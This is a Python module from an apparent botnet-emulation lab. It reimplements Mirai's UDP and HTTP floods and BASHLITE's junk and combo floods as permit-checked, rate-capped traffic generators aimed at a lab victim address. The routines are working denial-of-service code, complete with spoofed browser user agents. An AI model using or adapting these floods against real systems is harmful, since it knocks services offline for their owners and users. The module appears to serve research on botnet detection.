"""Floods that the kernel's own sockets carry: plain UDP and HTTP as Mirai's, junk and combo as BASHLITE's.

Shapes: Mirai's published source (2016, bot/attack_udp.c, attack_app.c); for BASHLITE's, the words of Meidan et al.
2018 (table 2): *junk* sends spam data, *combo* sends spam data and opens connections.
"""

import contextlib
import random
import socket
import string
from typing import Final

from botwarden.lab import links, plan
from botwarden.lab.acting import Actor, Outcome
from botwarden.lab.guard import Permit

WEB: Final = 80
LETTERS: Final = (string.ascii_letters + string.digits).encode()
MAX_PAYLOAD: Final = 1_400
MAX_OPEN: Final = 100
MAX_WAIT: Final = 2.0
MAX_FAILED: Final = 20
"""Connections in a row that nobody takes, after which a flood ends."""
AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 "
    "Safari/601.7.7",
)
"""Mirai's five (bot/table.c); each connection keeps to one."""


def udpplain(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = 9_307, count: int = 6_000, rate: float = 600.0,
    size: int = 512,
) -> Outcome:  # fmt: skip
    """UDP packets of one size from one port to one port, through an ordinary socket, which is faster."""
    host, permit = links.address_of(target), actor.permit
    permit.check(host)
    steps = permit.paced(count, rate)
    with links.bound(permit) as link:
        for _ in steps:
            links.tell(permit, link, actor.random.randbytes(min(size, MAX_PAYLOAD)), host, port)
    return Outcome(
        count=count, target=host, what=f"{count} UDP packets of {size} bytes to port {port}, {rate:g} a second"
    )


class _Pool:
    """Connections that are opened when they are needed, and again when the other end has had enough."""

    def __init__(self, permit: Permit, host: str, port: int, size: int) -> None:
        self._permit, self._host, self._port = permit, permit.check(host), port
        self._links: list[socket.socket | None] = [None] * max(1, min(size, MAX_OPEN))
        self.opened = 0
        self._failed = 0

    def __enter__(self) -> "_Pool":
        return self

    def __exit__(self, *_: object) -> None:
        for link in filter(None, self._links):
            link.close()

    def send(self, number: int, data: bytes) -> None:
        """Send on one of the connections, and throw away what has come back on it.

        Raises Refused; ConnectionError where nobody lets anybody connect.
        """
        self._permit.packets.spend()
        at = number % len(self._links)
        link = self._links[at] or self._open()
        self._links[at] = None if link is None or not _sent(link, data) else link

    def _open(self) -> socket.socket | None:
        try:
            link = links.connect(self._permit, self._host, self._port, MAX_WAIT)
        except OSError as error:
            self._failed += 1
            if self._failed >= MAX_FAILED:
                raise ConnectionError(f"{self._host}, port {self._port}: {error}") from None
            return None
        link.setblocking(False)
        self.opened += 1
        self._failed = 0
        return link


def _sent(link: socket.socket, data: bytes) -> bool:
    """Whether the other end still listens; otherwise the connection is closed."""
    try:
        with contextlib.suppress(BlockingIOError):
            if not link.recv(65_536):
                raise ConnectionResetError
        with contextlib.suppress(BlockingIOError):
            link.send(data)
    except OSError:
        link.close()
        return False
    return True


def http(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = WEB, count: int = 3_000, rate: float = 200.0,
    connections: int = 20,
) -> Outcome:  # fmt: skip
    """Web requests for the same page on connections that are kept, under the names of a few browsers, as Mirai's."""
    host, dice = links.address_of(target), actor.random
    agents = [dice.choice(AGENTS) for _ in range(MAX_OPEN)]
    steps = actor.permit.paced(count, rate)
    with _Pool(actor.permit, host, port, connections) as pool:
        for n in steps:
            agent = agents[n % max(1, min(connections, MAX_OPEN))]
            said = f"GET / HTTP/1.1\r\nUser-Agent: {agent}\r\nHost: {host}\r\nConnection: keep-alive\r\n\r\n"
            pool.send(n, said.encode())
    return Outcome(
        count=count, target=host, what=f"{count} web requests on {pool.opened} connections, {rate:g} a second"
    )


def junk(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = WEB, count: int = 3_000, rate: float = 300.0,
    connections: int = 20, size: int = 1_024,
) -> Outcome:  # fmt: skip
    """Random letters on connections that are kept, and opened again when the other end closes them."""
    host = links.address_of(target)
    steps = actor.permit.paced(count, rate)
    with _Pool(actor.permit, host, port, connections) as pool:
        for n in steps:
            pool.send(n, spam(actor.random, size))
    said = f"{count} times {size} random letters on {pool.opened} connections to port {port}, {rate:g} a second"
    return Outcome(count=count, target=host, what=said)


def combo(
    actor: Actor, /, *, target: str = plan.VICTIM_IP, port: int = WEB, count: int = 1_200, rate: float = 80.0,
    size: int = 1_024,
) -> Outcome:  # fmt: skip
    """Connections that are opened one after the other, given random letters, and closed without waiting."""
    host, permit = links.address_of(target), actor.permit
    permit.check(host)
    opened: list[socket.socket] = []
    try:
        for _ in permit.conversations(count, rate):
            opened.append(links.knock(permit, host, port))
            if len(opened) >= max(2, min(MAX_OPEN, int(rate / 4))):
                _spend(opened.pop(0), spam(actor.random, size))
    finally:
        for link in opened:
            _spend(link, spam(actor.random, size))
    said = f"{count} connections to port {port} with {size} random letters each, {rate:g} a second"
    return Outcome(count=count, target=host, what=said)


def _spend(link: socket.socket, data: bytes) -> None:
    with link:
        try:
            link.send(data)
        except OSError:
            return  # refused, or still on its way


def spam(dice: random.Random, size: int) -> bytes:
    """Random letters; a letter stands for nothing."""
    return dice.randbytes(min(size, MAX_PAYLOAD)).translate(_TO_LETTERS)


_TO_LETTERS: Final = bytes(LETTERS[byte % len(LETTERS)] for byte in range(256))
